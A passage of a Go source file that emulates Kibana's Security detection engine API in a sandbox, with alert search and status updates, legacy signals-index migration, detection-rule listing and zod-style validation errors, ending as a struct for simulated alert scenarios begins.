package sandbox

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"slices"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/kibana-mcp/kibana-mcp/sandbox/es"
)

// The Security detection engine: the alerts the story's detection rules
// raised (an Elasticsearch index searched and updated with the query DSL of
// dsl.go), the rules themselves (read here; written by detection_rules.go;
// stored as alerting rules, detection_rules_store.go), and the migration of
// legacy .siem-signals indices.
//
// Two kinds of errors, as in Kibana: request validation answers Kibana's
// platform format with zod's wording ("[request body]: ids: Required"); the
// route's own errors and Elasticsearch's answer the security solution's
// {"message", "status_code"}.

// alertsState holds a space's detection alerts and legacy indices (its
// detection rules are alerting rules: detection_rules_store.go).
type alertsState struct {
	index      *es.Index
	legacy     []*signalsIndex
	migrations []*alertsMigration
	lifecycle  ruleLifecycleState // prebuilt rules, the alerts index (detection_rules_*.go)
}

// signalsIndex is a legacy .siem-signals-<space>-NNNNNN index.
type signalsIndex struct {
	name    string
	version int // its mapping version
	counts  []signalVersion
	newest  time.Time // its newest alert
	write   bool      // the alias's write index
	aliased bool      // still behind the .siem-signals-<space> alias
}

type signalVersion struct {
	Version int `json:"version"`
	Count   int `json:"count"`
}

// alertsMigration is a reindex of an outdated legacy index.
type alertsMigration struct {
	id, source, destination string
	version                 int
	status                  string // pending, success, failure
	created, updated        time.Time
	polls                   int
}

// signalsTemplateVersion is the current version of the alerts mapping.
const signalsTemplateVersion = 77

func alertsIndexName(spaceID string) string {
	return ".internal.alerts-security.alerts-" + spaceID + "-000001"
}

// alertsMapping types the alert fields that values cannot: dates, IPs,
// text, scores, and the workflow fields every alerts index maps.
func alertsMapping() (map[string]es.Kind, map[string]string) {
	m := map[string]es.Kind{}
	for _, f := range []string{"@timestamp", "kibana.alert.start", "kibana.alert.original_time", "kibana.alert.last_detected", "kibana.alert.intended_timestamp", "kibana.alert.workflow_status_updated_at", "kibana.alert.rule.created_at", "kibana.alert.rule.updated_at", "kibana.alert.rule.execution.timestamp", "event.created", "event.ingested", "kibana.alert.end"} {
		m[f] = es.Date
	}
	for _, f := range []string{"source.ip", "destination.ip", "host.ip", "client.ip", "server.ip"} {
		m[f] = es.IP
	}
	for _, f := range []string{"kibana.alert.risk_score", "kibana.alert.rule.risk_score"} {
		m[f] = es.Double
	}
	for _, f := range []string{"network.bytes", "source.bytes", "destination.bytes", "destination.port", "source.port", "process.pid", "process.parent.pid", "kibana.alert.depth", "kibana.alert.rule.max_signals", "kibana.alert.rule.version", "kibana.alert.rule.revision", "kibana.alert.suppression.docs_count"} {
		m[f] = es.Long
	}
	for _, f := range []string{"kibana.alert.uuid", "kibana.alert.status", "kibana.alert.workflow_status", "kibana.alert.workflow_reason", "kibana.alert.workflow_user", "kibana.alert.workflow_tags", "kibana.alert.workflow_assignee_ids", "kibana.alert.case_ids", "kibana.alert.building_block_type", "kibana.alert.severity", "kibana.alert.reason", "kibana.alert.rule.uuid", "kibana.alert.rule.rule_id", "kibana.alert.rule.name", "kibana.alert.rule.tags", "kibana.alert.rule.type", "kibana.alert.rule.severity", "kibana.alert.rule.category", "kibana.alert.rule.consumer", "kibana.alert.rule.producer", "kibana.alert.rule.rule_type_id", "kibana.alert.rule.execution.uuid", "kibana.alert.group.id", "kibana.space_ids", "kibana.version", "event.kind", "event.action", "event.category", "event.outcome", "event.dataset", "event.module", "host.name", "host.hostname", "user.name", "user.domain", "process.name", "process.executable", "process.command_line", "process.args", "process.parent.name", "file.name", "file.path", "file.extension", "url.domain", "url.full", "dns.question.name", "dns.question.type", "network.protocol", "agent.type"} {
		m[f] = es.Keyword
	}
	m["message"] = es.Text
	multi := map[string]string{"kibana.alert.reason.text": "kibana.alert.reason", "user.name.text": "user.name", "process.name.text": "process.name", "process.command_line.text": "process.command_line", "file.path.text": "file.path"}
	for f := range multi {
		m[f] = es.Text
	}
	return m, multi
}

func (k *Kibana) detectionsRoutes() []route {
	return []route{
		newRoute(http.MethodPost, "/api/detection_engine/signals/search", k.searchAlerts),
		newRoute(http.MethodPost, "/api/detection_engine/signals/status", k.setAlertsStatus),
		newRoute(http.MethodPost, "/api/detection_engine/signals/tags", k.setAlertTags),
		newRoute(http.MethodPost, "/api/detection_engine/signals/assignees", k.setAlertAssignees),
		newRoute(http.MethodPost, "/api/detection_engine/signals/migration", k.createAlertsMigration),
		newRoute(http.MethodDelete, "/api/detection_engine/signals/migration", k.cleanUpAlertsMigration),
		newRoute(http.MethodGet, "/api/detection_engine/signals/migration_status", k.alertsMigrationStatus),
		newRoute(http.MethodPost, "/api/detection_engine/signals/finalize_migration", k.finalizeAlertsMigration),
		newRoute(http.MethodGet, "/api/detection_engine/rules/_find", k.findDetectionRules),
		newRoute(http.MethodGet, "/api/detection_engine/rules", k.readDetectionRule),
	}
}

// ---- Errors and validation ----

// siemError answers the security solution's error body.
func siemError(c *call, status int, message any) {
	c.json(status, map[string]any{"message": message, "status_code": status})
}

// esFailure answers an Elasticsearch error the way the detection routes
// pass it on.
func esFailure(c *call, err error) {
	if e, ok := err.(*es.Error); ok {
		siemError(c, e.Status, e.Error())
		return
	}
	siemError(c, http.StatusInternalServerError, err.Error())
}

// zod collects problems in the wording of Kibana's zod route validation.
type zod struct {
	where  string // "request body", "request query"
	issues []string
}

func (z *zod) add(path, format string, args ...any) {
	z.issues = append(z.issues, path+": "+fmt.Sprintf(format, args...))
}

// answer reports the problems as a 400; false when there were none.
func (z *zod) answer(c *call) bool {
	if len(z.issues) == 0 {
		return false
	}
	c.badRequest("[" + z.where + "]: " + strings.Join(z.issues, ", "))
	return true
}

func zodType(v any) string {
	switch v := v.(type) {
	case nil:
		return "null"
	case string:
		return "string"
	case json.Number:
		if _, err := v.Int64(); err != nil {
			return "float"
		}
		return "number"
	case bool:
		return "boolean"
	case []any:
		return "array"
	case map[string]any:
		return "object"
	}
	return "unknown"
}

// body returns the request's JSON object, noting a body that is not one.
// zodBody starts checking a request body, answering the 400 when it is
// not a JSON object (body nil).
func zodBody(c *call) (*zod, map[string]any) {
	z := &zod{where: "request body"}
	body := z.body(c)
	if body == nil {
		z.answer(c)
	}
	return z, body
}

func (z *zod) body(c *call) map[string]any {
	if c.body != nil {
		return c.body
	}
	if len(strings.TrimSpace(string(c.rawBody))) > 0 {
		var v any
		json.Unmarshal(c.rawBody, &v)
		z.issues = append(z.issues, "Expected object, received "+zodType(v))
		return nil
	}
	return map[string]any{}
}

func (z *zod) object(m map[string]any, key string, required bool) (map[string]any, bool) {
	v, ok := m[key]
	if !ok {
		if required {
			z.add(key, "Required")
		}
		return nil, false
	}
	obj, isObj := v.(map[string]any)
	if !isObj {
		z.add(key, "Expected object, received %s", zodType(v))
		return nil, false
	}
	return obj, true
}

// strings reads an array of strings; minItems and nonEmpty as the spec says.
func (z *zod) stringList(m map[string]any, path, key string, required bool, minItems int, nonEmpty bool) ([]string, bool) {
	at := joinDetPath(path, key)
	v, ok := m[key]
	if !ok {
		if required {
			z.add(at, "Required")
		}
		return nil, false
	}
	list, isList := v.([]any)
	if !isList {
		z.add(at, "Expected array, received %s", zodType(v))
		return nil, false
	}
	if len(list) < minItems {
		z.add(at, "Array must contain at least %d element(s)", minItems)
		return nil, false
	}
	out := make([]string, 0, len(list))
	good := true
	for i, e := range list {
		s, isStr := e.(string)
		switch {
		case !isStr:
			z.add(fmt.Sprintf("%s.%d", at, i), "Expected string, received %s", zodType(e))
			good = false
		case nonEmpty && s == "":
			z.add(fmt.Sprintf("%s.%d", at, i), "String must contain at least 1 character(s)")
			good = false
		case nonEmpty && strings.TrimSpace(s) == "":
			z.add(fmt.Sprintf("%s.%d", at, i), "No empty strings allowed")
			good = false
		}
		out = append(out, s)
	}
	return out, good
}

func (z *zod) enum(m map[string]any, key string, required bool, allowed ...string) (string, bool) {
	v, ok := m[key]
	if !ok {
		if required {
			z.add(key, "Required")
		}
		return "", false
	}
	s, isStr := v.(string)
	if !isStr || !slices.Contains(allowed, s) {
		z.add(key, "Invalid enum value. Expected '%s', received '%s'", strings.Join(allowed, "' | '"), es.String(v))
		return "", false
	}
	return s, true
}

// integer reads an integer with a minimum (zod's .int().min()).
func (z *zod) integer(m map[string]any, key string, min int) (int, bool) {
	v, ok := m[key]
	if !ok {
		return 0, false
	}
	n, isNum := v.(json.Number)
	if !isNum {
		z.add(key, "Expected number, received %s", zodType(v))
		return 0, false
	}
	i, err := n.Int64()
	if err != nil {
		z.add(key, "Expected integer, received float")
		return 0, false
	}
	if int(i) < min {
		z.add(key, "Number must be greater than or equal to %d", min)
		return 0, false
	}
	return int(i), true
}

func joinDetPath(path, key string) string {
	if path == "" {
		return key
	}
	return path + "." + key
}

// ---- Searching and updating alerts ----

func (k *Kibana) searchAlerts(c *call) {
	z, body := zodBody(c)
	if body == nil {
		return
	}
	for _, key := range []string{"query", "aggs", "runtime_mappings"} {
		z.object(body, key, false)
	}
	if v, ok := body["size"]; ok {
		if n, isNum := v.(json.Number); !isNum {
			z.add("size", "Expected number, received %s", zodType(v))
		} else if i, err := n.Int64(); err != nil {
			z.add("size", "Expected integer, received float")
		} else if i < 0 {
			z.add("size", "Number must be greater than or equal to 0")
		}
	}
	if v, ok := body["track_total_hits"]; ok {
		if _, isBool := v.(bool); !isBool {
			z.add("track_total_hits", "Expected boolean, received %s", zodType(v))
		}
	}
	if v, ok := body["_source"]; ok && !validSourceOption(v) {
		z.add("_source", "Invalid input")
	}
	if _, ok := body["fields"]; ok {
		z.stringList(body, "", "fields", false, 0, false)
	}
	if v, ok := body["sort"]; ok && !validSortOption(v) {
		z.add("sort", "Invalid input")
	}
	if z.answer(c) {
		return
	}
	given := false
	for _, key := range []string{"query", "aggs", "_source", "fields", "track_total_hits", "size", "sort"} {
		if v, ok := body[key]; ok && v != nil {
			given = true
		}
	}
	if !given {
		siemError(c, http.StatusBadRequest, `"value" must have at least 1 children`)
		return
	}
	// Kibana passes Elasticsearch only these members; the rest of a body
	// (from, search_after, …) is dropped by its validation.
	search := map[string]any{}
	for _, key := range []string{"query", "aggs", "_source", "fields", "track_total_hits", "size", "runtime_mappings", "sort"} {
		if v, ok := body[key]; ok && v != nil {
			search[key] = v
		}
	}
	res, err := c.space.alerts.index.Search(search, k.cfg.Now())
	if err != nil {
		esFailure(c, err)
		return
	}
	c.ok(res)
}

func validSourceOption(v any) bool {
	switch v := v.(type) {
	case bool, string:
		return true
	case []any:
		for _, e := range v {
			if _, ok := e.(string); !ok {
				return false
			}
		}
		return true
	}
	return false
}

func validSortOption(v any) bool {
	one := func(v any) bool {
		switch v.(type) {
		case string, map[string]any:
			return true
		}
		return false
	}
	if list, ok := v.([]any); ok {
		for _, e := range list {
			if !one(e) {
				return false
			}
		}
		return true
	}
	return one(v)
}

// alertStatuses are the workflow statuses the API accepts.
var alertStatuses = []string{"open", "closed", "acknowledged", "in-progress"}

// closingReasons are the reasons for closing alerts.
var closingReasons = []string{"false_positive", "duplicate", "true_positive", "benign_positive", "automated_closure", "other"}

func (k *Kibana) setAlertsStatus(c *call) {
	z, body := zodBody(c)
	if body == nil {
		return
	}
	var ids []string
	var clause any
	_, byIDs := body["signal_ids"]
	_, byQuery := body["query"]
	switch {
	case byIDs:
		ids, _ = z.stringList(body, "", "signal_ids", true, 1, true)
	case byQuery:
		q, _ := z.object(body, "query", true)
		clause = q
		if _, ok := body["conflicts"]; ok {
			z.enum(body, "conflicts", false, "abort", "proceed")
		}
	default:
		z.add("signal_ids", "Required")
		z.add("query", "Required")
	}
	status, _ := z.enum(body, "status", true, alertStatuses...)
	reason := ""
	if _, ok := body["reason"]; ok {
		reason, _ = z.enum(body, "reason", false, closingReasons...)
	}
	if z.answer(c) {
		return
	}
	if status != "closed" {
		reason = ""
	}
	st := &c.space.alerts
	var docs []*es.Doc
	if byIDs {
		docs = st.byIDs(ids)
	} else {
		var err error
		if docs, err = st.index.Matching(clause, k.cfg.Now()); err != nil {
			esFailure(c, err)
			return
		}
	}
	user := currentProfileUID(c)
	at := k.now()
	for _, d := range docs {
		cur, _ := d.Source["kibana.alert.workflow_status"].(string)
		if cur == "" || cur == status {
			d.Version++ // reindexed all the same
			continue
		}
		d.Set("kibana.alert.workflow_status", status)
		d.Set("kibana.alert.workflow_user", user)
		d.Set("kibana.alert.workflow_status_updated_at", at)
		if reason != "" {
			d.Set("kibana.alert.workflow_reason", reason)
		} else {
			d.Set("kibana.alert.workflow_reason", nil)
		}
	}
	c.ok(updateByQueryAnswer(len(docs)))
}

// byIDs returns the alerts with the given _ids, as a terms query on _id
// finds them (unknown ids are not errors).
func (st *alertsState) byIDs(ids []string) []*es.Doc {
	var out []*es.Doc
	for _, d := range st.index.Docs {
		if slices.Contains(ids, d.ID) {
			out = append(out, d)
		}
	}
	return out
}

// currentProfileUID is the user profile of the caller: a user signed in
// with a password has one; an API key has none.
func currentProfileUID(c *call) any {
	auth := c.r.Header.Get("Authorization")
	if raw, ok := strings.CutPrefix(auth, "Basic "); ok {
		if dec, err := base64.StdEncoding.DecodeString(raw); err == nil {
			user, _, _ := strings.Cut(string(dec), ":")
			return alertUserUID(user)
		}
	}
	return nil
}

// updateByQueryAnswer is Elasticsearch's update_by_query response.
func updateByQueryAnswer(n int) map[string]any {
	batches := 0
	if n > 0 {
		batches = (n + 999) / 1000
	}
	return map[string]any{
		"took": 3 + n/10, "timed_out": false, "total": n, "updated": n, "deleted": 0,
		"batches": batches, "version_conflicts": 0, "noops": 0,
		"retries":          map[string]any{"bulk": 0, "search": 0},
		"throttled_millis": 0, "requests_per_second": -1.0, "throttled_until_millis": 0,
		"failures": []any{},
	}
}

func (k *Kibana) setAlertTags(c *call) {
	k.changeAlertLists(c, "tags", "tags_to_add", "tags_to_remove", "kibana.alert.workflow_tags",
		func(dup string) string {
			return fmt.Sprintf("Duplicate tags %s were found in the tags_to_add and tags_to_remove parameters.", dup)
		})
}

func (k *Kibana) setAlertAssignees(c *call) {
	k.changeAlertLists(c, "assignees", "add", "remove", "kibana.alert.workflow_assignee_ids",
		func(dup string) string {
			return fmt.Sprintf("Duplicate assignees %s were found in the add and remove parameters.", dup)
		})
}

// changeAlertLists adds values to and removes values from a list field of
// the alerts named by ids, as the tags and assignees routes do.
func (k *Kibana) changeAlertLists(c *call, member, addKey, removeKey, field string, duplicates func(string) string) {
	z, body := zodBody(c)
	if body == nil {
		return
	}
	ids, _ := z.stringList(body, "", "ids", true, 1, true)
	var add, remove []string
	if changes, ok := z.object(body, member, true); ok {
		add, _ = z.stringList(changes, member, addKey, true, 0, true)
		remove, _ = z.stringList(changes, member, removeKey, true, 0, true)
	}
	if z.answer(c) {
		return
	}
	var dups []string
	for _, v := range add {
		if slices.Contains(remove, v) {
			dups = append(dups, v)
		}
	}
	if len(dups) > 0 {
		b, _ := json.Marshal(dups)
		siemError(c, http.StatusBadRequest, []string{duplicates(string(b))})
		return
	}
	add, remove = uniqueStrings(add), uniqueStrings(remove)
	docs := c.space.alerts.byIDs(ids)
	for _, d := range docs {
		var next []string
		if cur, ok := d.Source[field].([]any); ok {
			for _, v := range cur {
				s := es.String(v)
				if !slices.Contains(remove, s) {
					next = append(next, s)
				}
			}
			for _, v := range add {
				if !slices.Contains(next, v) {
					next = append(next, v)
				}
			}
		} else {
			next = add
		}
		d.Set(field, nonNilStrings(next))
	}
	c.ok(updateByQueryAnswer(len(docs)))
}

func uniqueStrings(in []string) []string {
	var out []string
	for _, s := range in {
		if !slices.Contains(out, s) {
			out = append(out, s)
		}
	}
	return out
}

func nonNilStrings(s []string) []string {
	if s == nil {
		return []string{}
	}
	return s
}

// ---- Legacy signals index migration ----

func (st *alertsState) legacyIndex(name string) *signalsIndex {
	for _, ix := range st.legacy {
		if ix.name == name {
			return ix
		}
	}
	return nil
}

func (st *alertsState) migration(id string) *alertsMigration {
	for _, m := range st.migrations {
		if m.id == id {
			return m
		}
	}
	return nil
}

func (ix *signalsIndex) outdated() bool {
	if ix.version < signalsTemplateVersion {
		return true
	}
	for _, c := range ix.counts {
		if c.Version < signalsTemplateVersion {
			return true
		}
	}
	return false
}

func (k *Kibana) createAlertsMigration(c *call) {
	z, body := zodBody(c)
	if body == nil {
		return
	}
	indices, _ := z.stringList(body, "", "index", true, 1, true)
	for _, opt := range []string{"requests_per_second", "size", "slices"} {
		z.integer(body, opt, 1)
	}
	if z.answer(c) {
		return
	}
	st := &c.space.alerts
	var foreign []string
	for _, name := range indices {
		if ix := st.legacyIndex(name); ix == nil || !ix.aliased {
			foreign = append(foreign, name)
		}
	}
	if len(foreign) > 0 {
		siemError(c, http.StatusBadRequest, fmt.Sprintf("The following indices are not signals indices and cannot be migrated: [%s].", strings.Join(foreign, ",")))
		return
	}
	now := k.cfg.Now().UTC()
	results := []any{}
	for _, name := range indices {
		ix := st.legacyIndex(name)
		if !ix.outdated() {
			results = append(results, map[string]any{"index": name, "migration_id": nil, "migration_index": nil})
			continue
		}
		dest := fmt.Sprintf("%s-r%06d", name, signalsTemplateVersion)
		fail := func(msg string) {
			results = append(results, map[string]any{"index": name, "error": map[string]any{"message": msg, "status_code": 400}, "migration_id": nil, "migration_index": nil})
		}
		if ix.write {
			fail("The specified index is a write index and cannot be migrated.")
			continue
		}
		if st.legacyIndex(dest) != nil || slices.ContainsFunc(st.migrations, func(m *alertsMigration) bool { return m.destination == dest }) {
			fail(fmt.Sprintf("resource_already_exists_exception\n\tRoot causes:\n\t\tresource_already_exists_exception: index [%s/%s] already exists", dest, indexUUID(dest)))
			continue
		}
		m := &alertsMigration{id: k.newID(), source: name, destination: dest, version: signalsTemplateVersion, status: "pending", created: now, updated: now}
		st.migrations = append(st.migrations, m)
		results = append(results, map[string]any{"index": name, "migration_id": m.id, "migration_index": dest})
	}
	c.ok(map[string]any{"indices": results})
}

// migrationsNamed finds every migration of a request, or answers 404 for
// the first unknown one (the saved object bulk get Kibana does).
func (k *Kibana) migrationsNamed(c *call) ([]*alertsMigration, bool) {
	z, body := zodBody(c)
	if body == nil {
		return nil, false
	}
	ids, _ := z.stringList(body, "", "migration_ids", true, 1, false)
	if z.answer(c) {
		return nil, false
	}
	var out []*alertsMigration
	for _, id := range ids {
		m := c.space.alerts.migration(id)
		if m == nil {
			siemError(c, http.StatusNotFound, soNotFoundMessage("security-solution-signals-migration", id))
			return nil, false
		}
		out = append(out, m)
	}
	return out, true
}

// finalizeAlertsMigration completes finished reindexes: the alias moves
// from the source index to the migrated copy. A reindex finishes five
// seconds (sandbox time) after it started, or by the second poll.
func (k *Kibana) finalizeAlertsMigration(c *call) {
	migrations, ok := k.migrationsNamed(c)
	if !ok {
		return
	}
	st := &c.space.alerts
	now := k.cfg.Now().UTC()
	results := []any{}
	for _, m := range migrations {
		if m.status == "pending" {
			m.polls++
			if now.Sub(m.created) >= 5*time.Second || m.polls >= 2 {
				src := st.legacyIndex(m.source)
				total := 0
				for _, cnt := range src.counts {
					total += cnt.Count
				}
				src.aliased = false
				st.legacy = append(st.legacy, &signalsIndex{name: m.destination, version: signalsTemplateVersion, counts: []signalVersion{{signalsTemplateVersion, total}}, newest: src.newest, aliased: true})
				m.status, m.updated = "success", now
			}
		}
		results = append(results, map[string]any{
			"id": m.id, "completed": m.status != "pending", "destinationIndex": m.destination, "status": m.status,
			"sourceIndex": m.source, "version": m.version, "updated": kibanaTimestamp(m.updated),
		})
	}
	c.ok(map[string]any{"migrations": results})
}

// cleanUpAlertsMigration removes migrations: the original index of a
// finished one is set to be deleted in 30 days; a pending one is
// cancelled and its copy removed.
func (k *Kibana) cleanUpAlertsMigration(c *call) {
	migrations, ok := k.migrationsNamed(c)
	if !ok {
		return
	}
	st := &c.space.alerts
	results := []any{}
	for _, m := range migrations {
		// A finished migration's original index gets a deletion policy,
		// which no API shows; an unfinished one's copy goes.
		if m.status != "success" {
			st.legacy = slices.DeleteFunc(st.legacy, func(ix *signalsIndex) bool { return ix.name == m.destination })
		}
		st.migrations = slices.DeleteFunc(st.migrations, func(x *alertsMigration) bool { return x == m })
		results = append(results, map[string]any{
			"id": m.id, "destinationIndex": m.destination, "status": m.status,
			"sourceIndex": m.source, "version": m.version, "updated": kibanaTimestamp(m.updated),
		})
	}
	c.ok(map[string]any{"migrations": results})
}

func (k *Kibana) alertsMigrationStatus(c *call) {
	from := c.query("from")
	if _, given := c.r.URL.Query()["from"]; !given {
		c.badRequest("[request query]: from: Required")
		return
	}
	since, err := es.DateMath(from, k.cfg.Now().UTC(), false, time.UTC)
	if err != nil {
		c.badRequest("[request query]: from: Failed to parse date-math expression")
		return
	}
	st := &c.space.alerts
	out := []any{}
	for _, ix := range st.legacy {
		if !ix.aliased || ix.newest.Before(since) {
			continue
		}
		migrations := []any{}
		for _, m := range st.migrations {
			if m.source == ix.name {
				migrations = append(migrations, map[string]any{"id": m.id, "status": m.status, "version": m.version, "updated": kibanaTimestamp(m.updated)})
			}
		}
		out = append(out, map[string]any{"index": ix.name, "version": ix.version, "signal_versions": ix.counts, "migrations": migrations, "is_outdated": ix.outdated()})
	}
	c.ok(map[string]any{"indices": out})
}

func kibanaTimestamp(t time.Time) string { return t.UTC().Format(es.DateFormat) }

// ---- Detection rules ----

// findRulesSortFields are the sort fields _find accepts, in the spec's
// order, and the rule field each sorts on.
var findRulesSortFields = [][2]string{
	{"created_at", "created_at"}, {"createdAt", "created_at"}, {"enabled", "enabled"},
	{"execution_summary.last_execution.date", "execution_summary.last_execution.date"},
	{"execution_summary.last_execution.metrics.execution_gap_duration_s", "execution_summary.last_execution.metrics.execution_gap_duration_s"},
	{"execution_summary.last_execution.metrics.total_indexing_duration_ms", "execution_summary.last_execution.metrics.total_indexing_duration_ms"},
	{"execution_summary.last_execution.metrics.total_search_duration_ms", "execution_summary.last_execution.metrics.total_search_duration_ms"},
	{"execution_summary.last_execution.status", "execution_summary.last_execution.status"},
	{"name", "name"}, {"risk_score", "risk_score"}, {"riskScore", "risk_score"}, {"severity", "severity"},
	{"updated_at", "updated_at"}, {"updatedAt", "updated_at"},
}

// sortFieldOf is the rule field a _find sort_field sorts on, "" for none.
func sortFieldOf(name string) string {
	for _, f := range findRulesSortFields {
		if f[0] == name {
			return f[1]
		}
	}
	return ""
}

// ruleFilterFields are the saved-object attributes a _find filter may
// name, and their types.
var ruleFilterFields = map[string]es.Kind{
	"name": es.Text, "enabled": es.Boolean, "tags": es.Keyword, "createdBy": es.Keyword, "updatedBy": es.Keyword,
	"interval": es.Keyword, "schedule.interval": es.Keyword, "alertTypeId": es.Keyword, "consumer": es.Keyword,
	"params.ruleId": es.Keyword, "params.severity": es.Keyword, "params.riskScore": es.Double, "params.type": es.Keyword,
	"params.immutable": es.Boolean, "params.language": es.Keyword, "params.index": es.Keyword, "params.query": es.Keyword,
	"executionStatus.status": es.Keyword, "lastRun.outcome": es.Keyword, "muteAll": es.Boolean,
}

func (k *Kibana) findDetectionRules(c *call) {
	z := &zod{where: "request query"}
	q := c.r.URL.Query()
	page, perPage := 1, 20
	intParam := func(name string, min int, into *int) {
		vals, ok := q[name]
		if !ok {
			return
		}
		n, err := strconv.ParseFloat(vals[0], 64)
		switch {
		case err != nil:
			z.add(name, "Expected number, received nan")
		case n != float64(int(n)):
			z.add(name, "Expected integer, received float")
		case int(n) < min:
			z.add(name, "Number must be greater than or equal to %d", min)
		default:
			*into = int(n)
		}
	}
	intParam("page", 1, &page)
	intParam("per_page", 0, &perPage)
	sortField, sortOrder := q.Get("sort_field"), q.Get("sort_order")
	if _, ok := q["sort_field"]; ok {
		if sortFieldOf(sortField) == "" {
			var names []string
			for _, f := range findRulesSortFields {
				names = append(names, f[0])
			}
			z.add("sort_field", "Invalid enum value. Expected '%s', received '%s'", strings.Join(names, "' | '"), sortField)
		}
	}
	if _, ok := q["sort_order"]; ok && sortOrder != "asc" && sortOrder != "desc" {
		z.add("sort_order", "Invalid enum value. Expected 'asc' | 'desc', received '%s'", sortOrder)
	}
	if z.answer(c) {
		return
	}
	if (sortField == "") != (sortOrder == "") {
		c.badRequest(`[request query]: when "sort_order" and "sort_field" must exist together or not at all`)
		return
	}
	rules := c.space.detectionRules()
	if filter := strings.TrimSpace(q.Get("filter")); filter != "" {
		var ok bool
		if rules, ok = k.rulesMatching(c, rules, filter); !ok {
			return
		}
	}
	if q.Has("gaps_range_start") {
		rules = slices.DeleteFunc(rules, func(r map[string]any) bool { return !ruleHadGap(r) })
	}
	if sortField != "" {
		field := sortFieldOf(sortField)
		sort.SliceStable(rules, func(i, j int) bool {
			c := compareRuleField(rules[i], rules[j], field)
			if sortOrder == "desc" {
				return c > 0
			}
			return c < 0
		})
	}
	total := len(rules)
	start := min((page-1)*perPage, total)
	end := min(start+perPage, total)
	data := []any{}
	fields := c.queryAll("fields")
	for _, r := range rules[start:end] {
		if len(fields) > 0 {
			data = append(data, projectRule(r, fields))
		} else {
			data = append(data, r)
		}
	}
	c.ok(map[string]any{"page": page, "perPage": perPage, "total": total, "data": data})
}

// rulesMatching keeps the rules a KQL filter over their saved objects'
// attributes matches (the _find filter, the bulk action query); false when
// the filter was answered with an error.
func (k *Kibana) rulesMatching(c *call, rules []map[string]any, filter string) ([]map[string]any, bool) {
	clause, err := es.KQL(filter, es.KQLOptions{Field: ruleFilterField})
	if err != nil {
		siemError(c, http.StatusBadRequest, err.Error())
		return nil, false
	}
	mapping := map[string]es.Kind{}
	for f, kind := range ruleFilterFields {
		mapping["alert.attributes."+f] = kind
	}
	sources := make([]map[string]any, len(rules))
	for i, r := range rules {
		sources[i] = map[string]any{"alert": map[string]any{"attributes": ruleAttributes(c.space, r)}}
	}
	matched, err := es.Select(".kibana_alerting_cases", sources, mapping, clause, k.cfg.Now())
	if err != nil {
		esFailure(c, err)
		return nil, false
	}
	var kept []map[string]any
	for _, i := range matched {
		kept = append(kept, rules[i])
	}
	return kept, true
}

// projectRule keeps the requested fields of a rule, and its identifiers.
func projectRule(r map[string]any, fields []string) map[string]any {
	out := map[string]any{"id": r["id"], "rule_id": r["rule_id"]}
	for _, f := range fields {
		for _, name := range strings.Split(f, ",") {
			if v, ok := r[strings.TrimSpace(name)]; ok {
				out[strings.TrimSpace(name)] = v
			}
		}
	}
	return out
}

// ruleAttributes is a rule as its alerting saved object stores it, which
// is what _find's filter searches.
func ruleAttributes(sp *space, r map[string]any) map[string]any {
	status, muted, outcome := "ok", false, any(nil)
	if ar := sp.rules.byID[fmt.Sprint(r["id"])]; ar != nil {
		status, muted = ar.status, ar.muteAll
		if ar.lastRun != nil {
			outcome = ar.lastRun["outcome"]
		}
	}
	return map[string]any{
		"name": r["name"], "enabled": r["enabled"], "tags": r["tags"], "createdBy": r["created_by"], "updatedBy": r["updated_by"],
		"interval": r["interval"], "schedule": map[string]any{"interval": r["interval"]}, "alertTypeId": siemRuleTypeIDs[fmt.Sprint(r["type"])], "consumer": "siem",
		"params":          map[string]any{"ruleId": r["rule_id"], "severity": r["severity"], "riskScore": r["risk_score"], "type": r["type"], "immutable": r["immutable"], "language": r["language"], "index": r["index"], "query": r["query"]},
		"executionStatus": map[string]any{"status": status}, "lastRun": map[string]any{"outcome": outcome}, "muteAll": muted,
	}
}

func compareRuleField(a, b map[string]any, field string) int {
	va, vb := ruleField(a, field), ruleField(b, field)
	fa, okA := es.Float(va)
	fb, okB := es.Float(vb)
	if _, isStr := va.(string); okA && okB && !isStr {
		return es.CompareFloat(fa, fb)
	}
	if ba, ok := va.(bool); ok {
		bb, _ := vb.(bool)
		return map[bool]int{false: 0, true: 1}[ba] - map[bool]int{false: 0, true: 1}[bb]
	}
	return strings.Compare(es.String(va), es.String(vb))
}

func ruleField(r map[string]any, path string) any {
	var v any = r
	for _, part := range strings.Split(path, ".") {
		m, ok := v.(map[string]any)
		if !ok {
			return nil
		}
		v = m[part]
	}
	return v
}

var uuidShape = lazyRegexp(`^[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}$`)

func (k *Kibana) readDetectionRule(c *call) {
	q := c.r.URL.Query()
	id, ruleID := q.Get("id"), q.Get("rule_id")
	if _, ok := q["id"]; ok && !uuidShape().MatchString(id) {
		c.badRequest("[request query]: id: Invalid uuid")
		return
	}
	if r := ruleNamed(c, id, ruleID); r != nil {
		c.ok(r)
	}
}

// ruleFilterField checks a filter field against the rule saved object's
// attributes, answering Kibana's errors for others.
func ruleFilterField(name string) (string, error) {
	attr, ok := strings.CutPrefix(name, "alert.attributes.")
	if !ok {
		if typ, _, found := strings.Cut(name, "."); found && typ != "alert" {
			return "", fmt.Errorf("This type %s is not allowed: Bad Request", typ)
		}
		return "", fmt.Errorf("This key '%s' need to be wrapped by a saved object type like alert: Bad Request", name)
	}
	if _, known := ruleFilterFields[attr]; !known {
		return "", fmt.Errorf("This key '%s' does NOT exist in alert saved object index patterns: Bad Request", name)
	}
	return name, nil
}

// ---- The story ----

// alertUserUID is a user's profile uid in Kibana's shape.
func alertUserUID(username string) string {
	sum := sha256.Sum256([]byte("profile:" + username))
	return "u_" + base64.RawURLEncoding.EncodeToString(sum[:])[:43] + "_0"
}

// alertCast is who and what a space's alerts are about. The team and the
// hosts are those the space's cases talk about.
type alertCast struct {
	domain, subnet                  string
	bruteHost, bruteIP, bruteOS     string
	attackers                       []string
	bruteUsers                      []string // the last one logs in
	financeUsers, financeHosts      []string
	phishDomain, phishPath          string
	fileServer, fileServerIP        string
	ransomUser, ransomProc, ransExt string
	shares                          []string
	psHost, psIP, psUser, psParent  string
	psCommand                       string
	dnsHost, dnsIP, dnsUser         string
	tunnelDomain, resolver          string
	assignees                       [5][]string // who works each rule's alerts
	counts                          [5]int      // alerts per story rule
	legacy                          []*signalsIndex
}

func castFor(spaceID string, now time.Time) alertCast {
